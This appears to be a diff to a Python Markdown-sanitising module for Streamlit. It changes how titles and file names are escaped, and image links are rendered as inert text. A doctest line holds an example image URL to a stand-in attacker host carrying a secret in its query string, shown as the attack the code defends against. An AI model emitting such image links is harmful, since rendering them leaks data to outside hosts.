@@ -12,8 +12,8 @@ Raw HTML such as `<img>` is never rendered by Streamlit's Markdown, so it needs 
 
 >>> safe_markdown("see ![a cat](http://evil.test/p.png?q=secret) now")
 'see [image: a cat](http://evil.test/p.png?q=secret) now'
->>> print(plain_label("**Hi** ![x](y)"))
-\\*\\*Hi\\*\\* \\!\\[x\\]\\(y\\)
+>>> print(plain_label("**Hi** ![x](y).png"))
+\\*\\*Hi\\*\\* \\!\\[x\\]\\(y\\).png
 """
 
 from __future__ import annotations
@@ -27,8 +27,11 @@ from markdown_it.token import Token
 _PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
 # `![` not escaped: preceded by no backslash or by pairs of them (each pair is one literal backslash).
 _IMAGE_OPENER = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
-# Every ASCII punctuation character may be backslash-escaped in CommonMark; escaped, none of them is syntax.
-_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
+# The characters that make inline Markdown (emphasis, code, links, images, HTML, entities, tables, math,
+# Streamlit's `:icon:` and `:color[...]`), and those that start a block at the start of a line (lists,
+# headings, quotes, rules); escaped, none of them is syntax. Dots and dashes elsewhere stay as written.
+_INLINE = re.compile(r"([\\`*_~\[\]()!<>#|:$&{}])")
+_LINE_START = re.compile(r"^(\s*)([-+=]|\d+(?=[.)]))", re.MULTILINE)
 
 
 def has_image(text: str) -> bool:
@@ -50,4 +53,10 @@ def safe_markdown(text: str, label: str = "image") -> str:
 
 def plain_label(text: str) -> str:
     """`text` drawn literally: for titles and file names, which are never meant as Markdown."""
-    return _PUNCTUATION.sub(r"\\\1", text)
+    return _LINE_START.sub(_escape_line_start, _INLINE.sub(r"\\\1", text))
+
+
+def _escape_line_start(match: re.Match[str]) -> str:
+    indent, opener = match[1], match[2]
+    # `1.` starts a list: the dot is escaped (`1\.`); `-`, `+` and `=` are escaped themselves.
+    return f"{indent}{opener}\\" if opener[0].isdigit() else f"{indent}\\{opener}"
